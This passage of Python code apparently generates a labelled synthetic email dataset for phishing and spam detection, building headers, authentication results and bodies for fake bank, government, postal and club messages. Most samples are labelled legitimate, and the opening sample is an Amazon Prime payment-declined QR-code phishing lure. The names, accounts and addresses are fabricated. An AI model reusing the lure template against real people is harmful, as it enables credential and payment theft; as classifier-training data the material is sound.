    top = delivery("ipmx3.bigpond.com", rcpt, f"mail.{sdom}", "103.97.176.58", when, auth, seed)
    hdrs = [dkim_sig(sdom, "s1", seed),
            f"From: {addr('Amazon Prime', 'info@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Prime membership on hold",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@{sdom}>"]
    body = Multi("related", bnd(seed + "r"), [alt(body_txt, html, bnd(seed)),
                                               attachment("image/png", "qr.png", qr, inline=True, cid="qr" + h(seed, 6))])
    emit("amazon-prime-qr-inline", "phish", "phishing",
         "Amazon Prime payment-declined lure with almost no text and an inline QR code image (no clickable link) pointing to a look-alike billing site.",
         top, hdrs, body)

# --------------------------------------------------------------------------- Legitimate: Canada

def list_unsub(url: str, mailto: str = "") -> list[str]:
    value = f"<{url}>" + (f",\n <mailto:{mailto}>" if mailto else "")
    return [f"List-Unsubscribe: {value}", "List-Unsubscribe-Post: List-Unsubscribe=One-Click"]


@msg
def l_interac_deposit():
    seed, when = "l1", parse_date("2025-03-08 11:17:42 -0500")
    rcpt = "julie.nadeau84@gmail.com"
    url = "https://etransfer.interac.ca/reqPayment/eml/" + h(seed, 24, ALNUM) + "?lang=en"
    paras = ["Hi JULIE NADEAU,",
             "Your funds have been automatically deposited into your account at Desjardins.",
             "<b>Amount:</b> $62.50 (CAD)<br><b>Sent From:</b> MARC-ANDRE LEBLANC<br><b>Message:</b> hockey fees for Zack",
             f'<b>Reference Number:</b> C1A{h(seed + "r", 9, UPPERNUM)}',
             f'<a href="{url}">View transfer details</a>']
    footer = ["This email was sent to you by Interac Corp., the owner of the Interac e-Transfer service, on behalf of Desjardins.",
              "&reg; Trade-mark of Interac Corp. Used under licence.",
              "Interac Corp. | Royal Bank Plaza, North Tower, 200 Bay Street, Suite 2400, P.O. Box 45, Toronto, ON M5J 2J1",
              '<a href="https://www.interac.ca/en/consumers/privacy-policy/">Privacy Policy</a>']
    html = card("Interac e-Transfer", "#fdb913", "INTERAC e-Transfer", paras, footer=footer)
    auth = Auth("pass", "notify@payments.interac.ca", "pass", "payments.interac.ca", "s2048", "pass", "payments.interac.ca", "REJECT")
    top = delivery("gmail", rcpt, "mta5.payments.interac.ca", "142.205.218.55", when, auth, seed)
    hdrs = [dkim_sig("payments.interac.ca", "s2048", seed, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type", when=when),
            f"Date: {rfc_date(when)}",
            "From: \"Interac e-Transfer\" <notify@payments.interac.ca>",
            f"To: {rcpt}",
            f"Message-ID: <{int(h(seed, 12, '0123456789'))}.{int(h(seed + 'b', 6, '0123456789'))}.JavaMail.etapp@etpwmail{h(seed + 'n', 2, '0123456789')}>",
            "Subject: INTERAC e-Transfer: Your money has been automatically deposited."]
    emit("interac-autodeposit", "legit", "clean",
         "Genuine Interac e-Transfer autodeposit notice from payments.interac.ca (aligned SPF/DKIM/DMARC) for hockey fees; informational, the link only shows transfer details.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed, "sfmc")))


@msg
def l_cra_new_mail():
    seed, when = "l2", parse_date("2025-05-12 06:31:08 -0400")
    rcpt = "dhillon.harpreet@rogers.com"
    paras = ["Canada Revenue Agency / Agence du revenu du Canada",
             "You have new mail from the Canada Revenue Agency (CRA).",
             "To view your mail, sign in to My Account at canada.ca/my-cra-account or use the CRA app.",
             "For your security, the CRA will never include a link in its notification emails asking you to enter personal information.",
             "Vous avez du nouveau courrier de l'Agence du revenu du Canada (ARC). Pour consulter votre courrier, connectez-vous à Mon dossier à canada.ca/mon-dossier-arc ou utilisez l'application de l'ARC."]
    html = card("CRA", "#26374a", "Government of Canada / Gouvernement du Canada", paras)
    auth = Auth("pass", "notification@cra-arc.gc.ca", "pass", "cra-arc.gc.ca", "cra1", "pass", "cra-arc.gc.ca", "REJECT")
    top = delivery("yahoo", rcpt, "mx2.cra-arc.gc.ca", "205.193.215.47", when, auth, seed)
    hdrs = [dkim_sig("cra-arc.gc.ca", "cra1", seed),
            "From: CRA-ARC <notification@cra-arc.gc.ca>",
            f"To: {rcpt}",
            f"Subject: {enc('You have new mail / Vous avez du nouveau courrier – CRA / ARC')}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 20)}@cra-arc.gc.ca>"]
    emit("cra-new-mail-notice", "legit", "clean",
         "Genuine bilingual CRA 'you have new mail' notification from cra-arc.gc.ca with passing authentication and no links, only directions to sign in.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def l_canadapost_delivered():
    seed, when = "l3", parse_date("2024-12-12 14:08:55 -0700")
    rcpt = "adam.fortier@shaw.ca"
    pin = "7023" + h(seed, 12, "0123456789")
    url = f"https://www.canadapost-postescanada.ca/track-reperage/en#/details/{pin}"
    paras = ["Your item has been delivered", f"Tracking number: <b>{pin}</b>",
             "Delivered to your community mailbox, parcel locker or apartment/condo mailbox on December 12, 2024.",
             f'<a href="{url}">Track your item</a>']
    footer = ["You're receiving this email because you asked to be notified about this item.",
              "Canada Post, 2701 Riverside Drive, Ottawa ON K1A 0B1",
              '<a href="https://www.canadapost-postescanada.ca/cpc/en/our-company/about-us/privacy.page">Privacy policy</a>']
    html = card("Canada Post", "#d52b1e", "Canada Post | Postes Canada", paras, footer=footer)
    mf = "bounce-" + h(seed, 10) + "@notifications.canadapost-postescanada.ca"
    auth = Auth("pass", mf, "pass", "canadapost-postescanada.ca", "cp2022", "pass", "canadapost-postescanada.ca", "REJECT")
    top = delivery("mx1.shaw.ca", rcpt, "mta-out4.notifications.canadapost-postescanada.ca", "216.191.52.77", when, auth, seed)
    hdrs = [dkim_sig("canadapost-postescanada.ca", "cp2022", seed),
            "From: Canada Post <noreply@notifications.canadapost-postescanada.ca>",
            f"To: {rcpt}",
            f"Subject: Delivered: Your item {pin}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 22)}@notifications.canadapost-postescanada.ca>"]
    emit("canadapost-delivered", "legit", "clean",
         "Genuine Canada Post delivery notification from the canadapost-postescanada.ca notifications domain with tracking link on the real site; no payment request.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed)))


@msg
def l_hydroquebec_facture():
    seed, when = "l4", parse_date("2025-02-19 05:42:10 -0500")
    rcpt = "g.ouellet@videotron.ca"
    click = "https://click.communication.hydroquebec.com/?qs=" + h(seed, 96)
    paras = ["Bonjour Gilles Ouellet,",
             "Votre facture d'électricité est maintenant disponible dans votre Espace client.",
             "Numéro de compte : 2990 4471 8820<br>Montant : 214,37 $<br>Date d'échéance : 12 mars 2025",
             "Si vous êtes inscrit au mode de versements égaux ou au paiement préautorisé, aucune action n'est requise.",
             ]
    footer = ["Hydro-Québec, 75, boul. René-Lévesque Ouest, Montréal (Québec) H2Z 1A4",
              f'<a href="https://click.communication.hydroquebec.com/?qs={h(seed + "p", 96)}">Politique de confidentialité</a>']
    html = card("Hydro-Québec", "#1f3c88", "Hydro-Québec", paras, "Consulter ma facture", click, footer, lang="fr")
    html += f'<img src="https://click.communication.hydroquebec.com/open.aspx?ffcb10-{h(seed + "o", 16)}-{h(seed + "o2", 8)}" width="1" height="1" alt="">\n'
    mf = f"bounce-{h(seed, 3, '0123456789')}_HTML-{h(seed + 'b', 9, '0123456789')}-{h(seed + 'c', 6, '0123456789')}-{h(seed + 'd', 7, '0123456789')}-{h(seed + 'e', 3, '0123456789')}@bounce.communication.hydroquebec.com"
    auth = Auth("pass", mf, "pass", "communication.hydroquebec.com", "200608", "pass", "hydroquebec.com", "REJECT")
    top = delivery("mx2.videotron.ca", rcpt, "mta.communication.hydroquebec.com", "13.111.66.143", when, auth, seed)
    hdrs = [dkim_sig("communication.hydroquebec.com", "200608", seed, "from:to:subject:date:list-unsubscribe:mime-version:reply-to:message-id:content-type"),
            f"Received: by mta.communication.hydroquebec.com id {h(seed + 'r', 12)} for <{rcpt}>; {rfc_date(when)}",
            f"From: {addr('Hydro-Québec', 'facture@communication.hydroquebec.com')}",
            f"To: {rcpt}",
            f"Subject: {enc('Votre facture Hydro-Québec est disponible')}",
            f"Date: {rfc_date(when)}",
            "Reply-To: " + addr("Hydro-Québec", "reply-" + h(seed + "rp", 12) + "@communication.hydroquebec.com"),
            f"Message-ID: <{h(seed + 'm', 8)}-{h(seed + 'm2', 4)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 12)}@ind1s06mta{h(seed, 3, '0123456789')}.xt.local>",
            "X-SFMC-Stack: 6",
            f"x-job: 514{h(seed + 'j', 5, '0123456789')}_{h(seed + 'j2', 7, '0123456789')}"]
    emit("hydroquebec-facture", "legit", "clean",
         "Genuine French Hydro-Québec e-bill notice sent through Salesforce Marketing Cloud on communication.hydroquebec.com, with aligned DKIM and click-tracking links to the customer portal.",
         top, hdrs, alt(plain(paras, "Consulter ma facture", click, footer), html, bnd(seed, "sfmc")))


@msg
def l_desjardins_infolettre():
    seed, when = "l5", parse_date("2025-04-03 09:00:12 -0400")
    rcpt = "lucie.beaudoin@videotron.ca"
    base = "https://courriel.desjardins.com/pub/cc?_ri_=X0Gzc2X%3DAQpglLjHJlTQGkzdQ" + h(seed, 40, ALNUM)
    paras = ["<b>Infolettre Desjardins — Avril 2025</b>",
             "<b>REER, CELI ou CELIAPP : lequel choisir?</b><br>Nos conseillers vous expliquent comment répartir votre épargne selon vos projets.",
             f'<a href="{base}&_ei_=1">Lire l\'article</a>',
             "<b>Fraude : 5 signes d'un faux message</b><br>Desjardins ne vous demandera jamais vos informations de connexion par courriel ou texto.",
             f'<a href="{base}&_ei_=2">En savoir plus sur la sécurité</a>']
    footer = ["Vous recevez ce courriel parce que vous êtes membre Desjardins et avez accepté de recevoir nos communications.",
              f'<a href="{base}&_ei_=unsub">Se désabonner</a> | Fédération des caisses Desjardins du Québec, 100, rue des Commandeurs, Lévis (Québec) G6V 7N5']
    html = card("Desjardins", "#00874e", "Desjardins", paras, footer=footer, lang="fr")
    mf = f"bounce-{h(seed, 12)}@courriel.desjardins.com"
    auth = Auth("pass", mf, "pass", "courriel.desjardins.com", "dkim1", "pass", "desjardins.com", "REJECT")
    top = delivery("mx2.videotron.ca", rcpt, "omp.courriel.desjardins.com", "12.130.137.88", when, auth, seed)
    hdrs = [dkim_sig("courriel.desjardins.com", "dkim1", seed),
            "From: Desjardins <infolettre@courriel.desjardins.com>",
            f"To: {rcpt}",
            f"Subject: {enc('Votre infolettre d’avril : REER, CELI et sécurité')}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}.{h(seed + 'b', 8)}@courriel.desjardins.com>",
            *list_unsub(base + "&_ei_=unsub1click"),
            "X-Mailer: Oracle Responsys"]
    emit("desjardins-infolettre", "bulk", "bulk",
         "Genuine Desjardins monthly French newsletter sent through Oracle Responsys on courriel.desjardins.com with List-Unsubscribe and tracking links; marketing, not an attack.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed)))


@msg
def l_hockey_list():
    seed, when = "l6", parse_date("2024-10-29 20:12:33 -0400")
    rcpt = "priya.raman.on@gmail.com"
    u, lid = h(seed + "u", 25), h(seed + "l", 10)
    track = f"https://kanataminorhockey.us14.list-manage.com/track/click?u={u}&id={h(seed, 10)}&e={h(seed + 'e', 10)}"
    paras = ["<b>KMHA Weekly Update — Week of Oct 28</b>",
             "Hi hockey families,",
             "Picture day is this Saturday at the Kanata Recreation Complex. Schedules by team are on the website.",
             f'Volunteers are still needed for the U11 tournament (Nov 15-17). <a href="{track}">Sign up here</a>.',
             "Reminder: second instalment of registration fees is due November 1.",
             "Go Blazers!<br>KMHA Communications"]
    footer = ["Copyright &copy; 2024 Kanata Minor Hockey Association, All rights reserved.",
              f'<a href="https://kanataminorhockey.us14.list-manage.com/unsubscribe?u={u}&id={lid}">unsubscribe from this list</a>']
    html = card("KMHA", "#002d62", "Kanata Minor Hockey", paras, footer=footer)
    mf = f"bounce-mc.us14_{h(seed, 8, '0123456789')}.{h(seed + 'c', 7, '0123456789')}-{rcpt.replace('@', '=')}@mail{h(seed + 'mm', 2, '0123456789')}.atl11.rsgsv.net"
    auth = Auth("pass", mf, "pass", "atl11.rsgsv.net", "k2", "pass", "kanataminorhockey.ca", "NONE",
                extra_dkim=[("pass", "kanataminorhockey.ca", "k1")])
    top = delivery("gmail", rcpt, f"mail{h(seed + 'mm', 2, '0123456789')}.atl11.rsgsv.net", "198.2.139.7", when, auth, seed)
    hdrs = [dkim_sig("kanataminorhockey.ca", "k1", seed + "own"),
            dkim_sig("atl11.rsgsv.net", "k2", seed),
            "Subject: KMHA Weekly Update - Picture Day & Volunteers",
            "From: Kanata Minor Hockey <communications@kanataminorhockey.ca>",
            "Reply-To: Kanata Minor Hockey <communications@kanataminorhockey.ca>",
            f"To: <{rcpt}>",
            f"Date: {rfc_utc(when)}",
            f"Message-ID: <{h(seed, 20)}.{h(seed + 'x', 16)}@mail{h(seed + 'mm', 2, '0123456789')}.atl11.rsgsv.net>",
            f"X-Mailer: Mailchimp Mailer - **CID{h(seed + 'cid', 20)}**",
            f"X-Campaign: mailchimp{u}.{h(seed + 'cp', 10)}",
            f"X-MC-User: {u}",
            *list_unsub(f"https://kanataminorhockey.us14.list-manage.com/unsubscribe?u={u}&id={lid}&e={h(seed + 'e', 10)}&c={h(seed + 'cp', 10)}",
                        f"unsubscribe-mc.us14_{u}.{h(seed + 'cp', 10)}-{h(seed + 'e', 10)}@unsubscribe.mailchimpapp.net")]
    emit("kanata-hockey-list", "bulk", "bulk",
         "Minor-hockey association weekly update sent via Mailchimp with the club's own DKIM, volunteer sign-up link and unsubscribe headers; a sports club list, not an attack.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed)))


@msg
def l_family_photos_fr():
    seed, when = "l7", parse_date("2025-07-06 19:52:08 -0400")
    rcpt = "sylvie.gagnon@videotron.ca"
    sender = "denis.gagnon52@bell.net"
    photo1, photo2 = files.photo_jpeg(7), files.photo_jpeg(19)
    txt = ("Allo Sylvie,\n\nVoici deux photos du chalet en fin de semaine, les enfants ont adoré le lac.\n"
           "On pense redescendre le 20 juillet, est-ce que le souper chez vous tient toujours?\n\n"
           "Bisous à tout le monde,\nDenis\n")
    auth = Auth("pass", sender, "pass", "bell.net", "bell2023", "pass", "bell.net", "NONE")
    top = delivery("mx2.videotron.ca", rcpt, "smtp.bell.net", "142.165.224.18", when, auth, seed)
    top += [sender_hop("[192.168.1.34]", "70.52.118.203", "smtp.bell.net", when - timedelta(seconds=2), h(seed + "id", 16, UPPERNUM), "ESMTPSA")]
    b = bnd(seed, "apple")
    hdrs = [dkim_sig("bell.net", "bell2023", seed),
            f"From: Denis Gagnon <{sender}>",
            "Content-Type: multipart/mixed;\n\tboundary=\"" + b + "\"",
            "Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3776.700.51\\))",
            f"Subject: {enc('Photos du chalet')}",
            f"Date: {rfc_date(when)}",
            f"Message-Id: <{h(seed, 8, UPPERNUM)}-{h(seed + 'a', 4, UPPERNUM)}-{h(seed + 'b', 4, UPPERNUM)}-{h(seed + 'c', 4, UPPERNUM)}-{h(seed + 'd', 12, UPPERNUM)}@bell.net>",
            f"To: Sylvie Gagnon <{rcpt}>",
            "X-Mailer: Apple Mail (2.3776.700.51)"]
    body = Multi("mixed", b, [text(txt),
                              attachment("image/jpeg", "IMG_4471.jpeg", photo1),
                              attachment("image/jpeg", "IMG_4475.jpeg", photo2)])
    raw_hdrs = [x for x in hdrs if not x.startswith("Content-Type") and not x.startswith("Mime-Version")]
    raw_hdrs.insert(2, "Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3776.700.51\\))")
    emit("famille-photos-chalet", "legit", "clean",
         "Personal French message between siblings sent from a Bell.net mailbox with Apple Mail, with two holiday photos attached.",
         top, raw_hdrs, body)


@msg
def l_rogers_bill():
    seed, when = "l8", parse_date("2025-09-04 03:12:55 -0400")
    rcpt = "tchen_88@rogers.com"
    click = "https://click.email.rogers.com/?qs=" + h(seed, 100)
    paras = ["Hi Tony,", "Your Rogers bill is ready.",
             "Account number: ******4471<br>Amount due: $128.36<br>Due date: September 25, 2025",
             "You're on Automatic Payments, so no action is needed. The amount will be charged to your credit card on file on the due date."]
    footer = ["Rogers Communications Inc., 333 Bloor Street East, Toronto, ON M4W 1G9",
              f'<a href="https://click.email.rogers.com/?qs={h(seed + "p", 100)}">Privacy Policy</a>']
    html = card("Rogers", "#da291c", "Rogers", paras, "View my bill", click, footer)
    mf = f"bounce-{h(seed, 3, '0123456789')}_HTML-{h(seed + 'b', 9, '0123456789')}-{h(seed + 'c', 6, '0123456789')}@bounce.email.rogers.com"
    auth = Auth("pass", mf, "pass", "email.rogers.com", "200608", "pass", "rogers.com", "REJECT")
    top = delivery("yahoo", rcpt, "mta.email.rogers.com", "13.111.15.202", when, auth, seed)
    hdrs = [dkim_sig("email.rogers.com", "200608", seed),
            "From: Rogers <noreply@email.rogers.com>",
            f"To: {rcpt}",
            "Subject: Your Rogers bill is ready",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed + 'm', 8)}-{h(seed + 'm2', 4)}-{h(seed + 'm3', 4)}-{h(seed + 'm4', 4)}-{h(seed + 'm5', 12)}@ind1s06mta{h(seed, 3, '0123456789')}.xt.local>",
            "X-SFMC-Stack: 7"]
    emit("rogers-bill-ready", "legit", "clean",
         "Genuine Rogers e-bill notice from email.rogers.com via Salesforce Marketing Cloud, on automatic payments so no action needed; links go through Rogers' own click-tracking domain.",
         top, hdrs, alt(plain(paras, "View my bill", click, footer), html, bnd(seed, "sfmc")))

# --------------------------------------------------------------------------- Legitimate: Ireland

@msg
def l_revenue_myaccount():
    seed, when = "l9", parse_date("2025-01-22 10:05:31 +0000")
    rcpt = "maire.oconnell@eircom.net"
    paras = ["Dear Máire O'Connell,",
             "A new item has been added to your Revenue Record in myAccount.",
             "To view it, please log in to myAccount through the Revenue website, www.revenue.ie.",
             "Please note that Revenue will never send you an email with a link asking for personal or banking information.",
             "Yours faithfully,<br>Revenue"]
    html = card("Revenue", "#005b5b", "Revenue - Irish Tax and Customs", paras,
                footer=["Office of the Revenue Commissioners", "This is an automated email. Please do not reply."])
    auth = Auth("pass", "noreply@revenue.ie", "pass", "revenue.ie", "rev2023", "pass", "revenue.ie", "REJECT")
    top = delivery("mail-in.eircom.net", rcpt, "smtp-out2.revenue.ie", "193.1.242.36", when, auth, seed)
    hdrs = [dkim_sig("revenue.ie", "rev2023", seed),
            "From: Revenue <noreply@revenue.ie>",
            f"To: {rcpt}",
            "Subject: New item in your Revenue Record",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@revenue.ie>"]
    emit("revenue-ie-new-item", "legit", "clean",
         "Genuine Revenue.ie myAccount notification (revenue.ie passes DMARC) telling the taxpayer to log in via the website; no links or requests.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def l_anpost_tracking():
    seed, when = "l10", parse_date("2024-11-28 08:44:02 +0000")
    rcpt = "niamh_brennan@outlook.com"
    trk = "CE" + h(seed, 9, "0123456789") + "GB"
    url = f"https://www.anpost.com/Track/TrackInformation?item={trk}"
    paras = ["Hi Niamh,", f"Your item <b>{trk}</b> from Royal Mail is out for delivery today.",
             "Your postperson will deliver it between 10:00 and 14:00. If nobody is home, it will be left with a neighbour or brought to your local post office.",
             f'<a href="{url}">Track your item</a>']
    footer = ["An Post, GPO, O'Connell Street Lower, Dublin 1, D01 F5P2", "Please do not reply to this email."]
    html = card("An Post", "#00754a", "An Post", paras, footer=footer)
    mf = f"bounce+{h(seed, 6)}.{h(seed + 'b', 10)}@mg.anpost.com"
    auth = Auth("pass", mf, "pass", "mg.anpost.com", "k1", "pass", "anpost.com", "REJECT")
    top = delivery("outlook", rcpt, "m228-12.mailgun.net", "159.135.228.12", when, auth, seed)
    hdrs = [dkim_sig("anpost.com", "k1", seed, "content-transfer-encoding:content-type:mime-version:subject:message-id:to:from:date:sender:x-feedback-id"),
            f"X-Mailgun-Sid: W{b64tok(seed + 'sid', 30)}",
            "From: An Post <tracking@anpost.com>",
            f"To: {rcpt}",
            f"Subject: Your item {trk} is out for delivery",
            f"Date: {rfc_utc(when)}",
            f"Message-Id: <{utc(when).strftime('%Y%m%d%H%M%S')}.{h(seed, 16)}@mg.anpost.com>",
            "Sender: tracking@mg.anpost.com",
            f"X-Feedback-Id: {h(seed + 'f', 24)}:mailgun"]
    emit("anpost-out-for-delivery", "legit", "clean",
         "Genuine An Post out-for-delivery notice sent through Mailgun with anpost.com DKIM alignment; tracking link on anpost.com, no fee requested.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed)))


@msg
def l_aib_estatement():
    seed, when = "l11", parse_date("2025-03-03 07:00:44 +0000")
    rcpt = "ciaran.byrne88@gmail.com"
    paras = ["Dear Customer,",
             "Your latest eStatement for your current account ending 4471 is now available to view in AIB Internet Banking and the AIB Mobile app.",
             "AIB will never ask you for your full Registration Number, PAC or codes from your card reader by email, text or phone.",
             "Allied Irish Banks, p.l.c. is regulated by the Central Bank of Ireland."]
    html = card("AIB", "#7f2b7b", "AIB", paras, footer=["Allied Irish Banks, p.l.c., 10 Molesworth Street, Dublin 2, D02 R126"])
    auth = Auth("pass", "noreply@notifications.aib.ie", "pass", "aib.ie", "aib1", "pass", "aib.ie", "REJECT")
    top = delivery("gmail", rcpt, "mailout3.notifications.aib.ie", "194.69.198.140", when, auth, seed)
    hdrs = [dkim_sig("aib.ie", "aib1", seed, when=when),
            "From: AIB <noreply@notifications.aib.ie>",
            f"To: {rcpt}",
            "Subject: Your AIB eStatement is ready",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 26)}@notifications.aib.ie>"]
    emit("aib-estatement-ready", "legit", "clean",
         "Genuine AIB eStatement-available notice with aligned aib.ie DKIM and no links, reminding customers AIB never asks for codes.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def l_gaa_newsletter():
    seed, when = "l12", parse_date("2025-05-16 18:30:05 +0100")
    rcpt = "declan.walsh.galway@gmail.com"
    u, lid = h(seed + "u", 25), h(seed + "l", 10)
    track = f"https://stjamesgaagalway.us10.list-manage.com/track/click?u={u}&id={h(seed, 10)}&e={h(seed + 'e', 10)}"
    paras = ["<b>Naomh Séamus CLG — Club Notes</b>",
             "Well done to our U14 hurlers who won the county Division 2 final against Oranmore-Maree on Sunday. Photos on the club Facebook page.",
             f'Club Lotto jackpot is now &euro;6,400. <a href="{track}">Play online</a> or pick up a ticket in the clubhouse.',
             "Cúl Camps run 7-11 July; registration through the Cúl Camps website.",
             "Abair leat,<br>Club PRO"]
    footer = ["St. James' GAA Club, Mervue, Galway",
              f'<a href="https://stjamesgaagalway.us10.list-manage.com/unsubscribe?u={u}&id={lid}">Unsubscribe</a>']
    html = card("St. James GAA", "#7a0019", "Naomh Séamus CLG", paras, footer=footer)
    mf = f"bounce-mc.us10_{h(seed, 8, '0123456789')}.{h(seed + 'c', 7, '0123456789')}-{rcpt.replace('@', '=')}@mail{h(seed + 'mm', 2, '0123456789')}.suw13.rsgsv.net"
    auth = Auth("pass", mf, "pass", "suw13.rsgsv.net", "k2", "pass", "mailchimpapp.net", "NONE",
                extra_dkim=[("pass", "mailchimpapp.net", "k3")])
    top = delivery("gmail", rcpt, f"mail{h(seed + 'mm', 2, '0123456789')}.suw13.rsgsv.net", "198.2.180.41", when, auth, seed)
    hdrs = [dkim_sig("suw13.rsgsv.net", "k2", seed),
            dkim_sig("mailchimpapp.net", "k3", seed + "2"),
            f"Subject: {enc('Club Notes – U14 county champions, Lotto €6,400')}",
            f"From: {addr('St. James GAA Club', 'stjamesgaa.pro=gmail.com@mailchimpapp.net')}",
            f"Reply-To: {addr('St. James GAA Club', 'stjamesgaa.pro@gmail.com')}",
            f"To: <{rcpt}>",
            f"Date: {rfc_utc(when)}",
            f"Message-ID: <{h(seed, 20)}.{h(seed + 'x', 16)}@mail{h(seed + 'mm', 2, '0123456789')}.suw13.rsgsv.net>",
            f"X-Mailer: Mailchimp Mailer - **CID{h(seed + 'cid', 20)}**",
            f"X-Campaign: mailchimp{u}.{h(seed + 'cp', 10)}",
            f"X-MC-User: {u}",
            *list_unsub(f"https://stjamesgaagalway.us10.list-manage.com/unsubscribe?u={u}&id={lid}&e={h(seed + 'e', 10)}&c={h(seed + 'cp', 10)}",
                        f"unsubscribe-mc.us10_{u}.{h(seed + 'cp', 10)}-{h(seed + 'e', 10)}@unsubscribe.mailchimpapp.net")]
    emit("gaa-club-notes", "bulk", "bulk",
         "GAA club weekly notes sent via Mailchimp from a volunteer PRO (mailchimpapp.net rewritten sender because the club uses a Gmail address), with lotto link and unsubscribe.",
         top, hdrs, alt(plain(paras, footer=footer), html, bnd(seed)))


@msg
def l_accountant_invoice_ie():
    seed, when = "l13", parse_date("2025-02-10 11:26:48 +0000")
    rcpt = "orla@murphyjoinery.ie"
    sdom = "kellyassociates-accountants.ie"
    sender = f"sean.kelly@{sdom}"
    inv = files.pdf(["Kelly & Associates Chartered Accountants", "Main Street, Tuam, Co. Galway", "",
                     "INVOICE 2025-0114", "Client: Murphy Joinery Ltd", "",
                     "Preparation of annual accounts and CT1 return 2023    EUR 1,850.00",
                     "VAT @ 23%                                             EUR   425.50",
                     "Total                                                 EUR 2,275.50", "",
                     "Bank: Bank of Ireland, Tuam   IBAN IE64 BOFI 9052 3111 4471 20",
                     "Terms: 30 days"], title="Invoice 2025-0114")
    paras = ["Hi Orla,", "Please find attached our invoice for last year's accounts and CT1. Our bank details are unchanged.",
             "I'll be in touch in April about the 2024 year-end; could you start gathering the bank statements when you get a chance?",
             "Kind regards,"]
    sig = ["Sean Kelly FCA", "Kelly &amp; Associates Chartered Accountants", "Main Street, Tuam, Co. Galway | 093 24 118"]
    html = outlook_html(paras, sig)
    body_txt = "\n\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(strip_tags(s) for s in sig) + "\n"
    auth = Auth("pass", sender, "pass", sdom, "selector1", "pass", sdom, "NONE")
    top = delivery("m365", rcpt, "DU2PR03CU002.outbound.protection.outlook.com", "40.107.135.66", when, auth, seed,
                   helo="DU2PR03CU002.outbound.protection.outlook.com")
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    store = f"DB9PR03MB{h('ie8s', 4, '0123456789')}.eurprd03.prod.outlook.com"
    hdrs = [dkim_sig(sdom, "selector1", seed, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: {addr('Sean Kelly', sender)}",
            f"To: {addr('Orla Murphy', rcpt)}",
            "Subject: Invoice 2025-0114 - accounts and CT1 2023",
            "Thread-Topic: Invoice 2025-0114 - accounts and CT1 2023",
            f"Thread-Index: {b64tok(seed + 'ti', 24)}",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <{store.split('.')[0]}{h(seed + 'm', 16, UPPERNUM)}@{store.upper()}>",
            "Accept-Language: en-IE, en-US",
            "Content-Language: en-IE",
            "X-MS-Has-Attach: yes",
            "x-ms-exchange-senderadcheck: 1"]
    body = Multi("mixed", bnd(seed + "mx", "outlook"), [alt(body_txt, html, bnd(seed, "outlook")),
                                                          attachment("application/pdf", "Invoice_2025-0114.pdf", inv)])
    emit("accountant-invoice-ct1", "legit", "clean",
         "Real accountant-to-client invoice from the firm's Microsoft 365 tenant with a PDF invoice and unchanged bank details (same firm as the later hijack, sent before the compromise).",
         top, hdrs, body)

# --------------------------------------------------------------------------- Legitimate: Australia

@msg
def l_mygov_inbox():
    seed, when = "l14", parse_date("2025-08-06 13:12:09 +1000")
    rcpt = "karen.whitfield@bigpond.com"
    paras = ["Hello,", "You have a new message in your myGov Inbox.",
             "To read your message, sign in to myGov by typing my.gov.au into your browser, or use the myGov app.",
             "myGov will never send you an email or SMS with a link to sign in.",
             "Regards,<br>myGov"]
    html = card("myGov", "#1b2f4e", "myGov", paras, footer=["This is an automated message. Please do not reply to this email."])
    auth = Auth("pass", "noreply@my.gov.au", "pass", "my.gov.au", "mygov", "pass", "my.gov.au", "REJECT")
    top = delivery("ipmx3.bigpond.com", rcpt, "smtp02.my.gov.au", "164.97.246.30", when, auth, seed)
    hdrs = [dkim_sig("my.gov.au", "mygov", seed),
            "From: myGov <noreply@my.gov.au>",
            f"To: {rcpt}",
            "Subject: You have a new message in your myGov Inbox",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 30)}@my.gov.au>"]
    emit("mygov-inbox-genuine", "legit", "clean",
         "Genuine myGov new-message notification from my.gov.au (passes DMARC) with no links, telling the user to type my.gov.au themselves.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def l_auspost_on_its_way():
    seed, when = "l15", parse_date("2025-11-26 10:37:22 +1100")
    rcpt = "tony.nguyen76@optusnet.com.au"
    trk = "33" + h(seed, 3, UPPERNUM) + h(seed + "n", 8, "0123456789")
    click = f"https://click.notifications.auspost.com.au/?qs={h(seed, 96)}"
    paras = ["Your parcel is on its way", f"From: <b>THE ICONIC</b><br>Tracking number: {trk}",
             "Estimated delivery: <b>Thu 27 Nov - Fri 28 Nov</b>",
             "Want it left in a safe place? Manage your delivery in the AusPost app."]
    footer = ["Australia Post acknowledges the Traditional Custodians of the land on which we operate.",
              "&copy; Australia Post 2025. Australia Post, 111 Bourke St, Melbourne VIC 3000."]
    html = card("Australia Post", "#dc1928", "Australia Post", paras, "Track your parcel", click, footer)
    mf = f"bounce-{h(seed, 3, '0123456789')}_HTML-{h(seed + 'b', 9, '0123456789')}-{h(seed + 'c', 6, '0123456789')}@bounce.notifications.auspost.com.au"
    auth = Auth("pass", mf, "pass", "notifications.auspost.com.au", "200608", "pass", "auspost.com.au", "REJECT")
